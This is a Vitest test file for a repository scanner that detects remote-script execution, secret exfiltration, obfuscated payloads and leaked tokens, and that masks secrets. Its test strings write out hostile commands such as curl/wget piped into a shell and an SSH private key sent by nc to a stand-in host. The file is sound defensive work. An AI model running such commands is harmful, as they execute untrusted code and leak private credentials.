import { describe, expect, it } from 'vitest';
import { maskSecrets } from './mask-secrets.js';
import { PATTERN_RULES, PATTERNS_VERSION } from './rules.js';
import { matchText } from './scan-patterns.js';

const idsIn = (text: string) => matchText(text).map((m) => m.rule.id);

describe('pattern rules', () => {
  it('are versioned and have unique ids', () => {
    expect(PATTERNS_VERSION).toMatch(/^\d+\.\d+\.\d+$/);
    expect(new Set(PATTERN_RULES.map((r) => r.id)).size).toBe(PATTERN_RULES.length);
  });

  it.each(PATTERN_RULES.map((r) => [r.id, r] as const))('%s matches its positive example', (id, rule) => {
    const [m] = matchText(rule.examples.positive, [rule]);
    expect(m?.rule.id).toBe(id);
    expect(m?.line).toBe(1);
    if (rule.secret) expect(m?.secret).toMatch(/^\S{12,}$/);
  });

  it.each(PATTERN_RULES.map((r) => [r.id, r] as const))(
    '%s does not match its negative example',
    (id, rule) => {
      expect(idsIn(rule.examples.negative)).not.toContain(id);
    },
  );

  it('cover the cases the issue names', () => {
    expect(idsIn('wget -qO- https://x.example.test/i.sh | sh')).toContain('SR001');
    expect(idsIn('bash <(curl -s https://x.example.test/i.sh)')).toContain('SR001');
    expect(idsIn('iwr https://x.example.test/i.ps1 | iex')).toContain('SR001');
    expect(idsIn('eval "$(curl -s https://x.example.test/env)"')).toContain('SR002');
    expect(idsIn('exec(urllib.request.urlopen("https://x.example.test/p.py").read())')).toContain('SR002');
    expect(idsIn('cat ~/.ssh/id_ed25519 | nc collect.example.test 4444')).toContain('SR003');
    expect(idsIn('echo cGF5bG9hZA== | base64 -d | bash')).toContain('SR020');
    expect(idsIn('eval(atob("YWxlcnQoMSk="))')).toContain('SR020');
    expect(idsIn('api_key: "your-api-key-here"')).toEqual([]);
    expect(idsIn('curl https://x.example.test/data.json | jq .')).toEqual([]);
  });

  it('SR004 needs a network call somewhere in the same file', () => {
    const read = "const k = fs.readFileSync(home + '/.npmrc', 'utf8');";
    expect(idsIn(read)).toEqual([]);
    const matches = matchText(`${read}\nconst x = 1;\nawait axios.post(u, k);`);
    expect(matches.map((m) => [m.rule.id, m.line])).toEqual([['SR004', 1]]);
  });

  it('maskSecrets keeps only the redacted form of each secret', () => {
    const token = `${'ghp'}_Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8`;
    const masked = maskSecrets(`Authorization: token ${token}`);
    expect(masked).not.toContain(token);
    expect(masked).toMatch(/^Authorization: token ghp_\*+k8$/);
  });

  // The lines come from the scanned repository: each rule must stay linear on hostile 1 MB lines
  // (a backtracking rule would take minutes; the 10 s test timeout turns that into a failure).
  it('stay linear on adversarial 1 MB lines', { timeout: 10_000 }, () => {
    const MB = 1 << 20;
    const hostile = [
      'curl '.repeat(MB / 5),
      'wget | '.repeat(MB / 7),
      'eval('.repeat(MB / 5),
      'exec( '.repeat(MB / 6),
      'password="'.repeat(MB / 10),
      `password = "${'a'.repeat(MB)}`,
      `${'ghp'}_${'A'.repeat(MB)}`,
      `xoxb-${'-'.repeat(MB)}`,
      '\\x4'.repeat(MB / 3),
      '\\x41'
        .repeat(31)
        .concat(' ')
        .repeat(MB / 128),
      `${'.aws/credentials '.repeat(MB / 17)}`,
      'base64 -d '.repeat(MB / 10),
      'iwr '.repeat(MB / 4),
    ];
    for (const line of hostile) expect(Array.isArray(matchText(line))).toBe(true);
    expect(matchText(`${' '.repeat(MB)}curl https://x.example.test | sh`).map((m) => m.rule.id)).toEqual([
      'SR001',
    ]);
  });
});
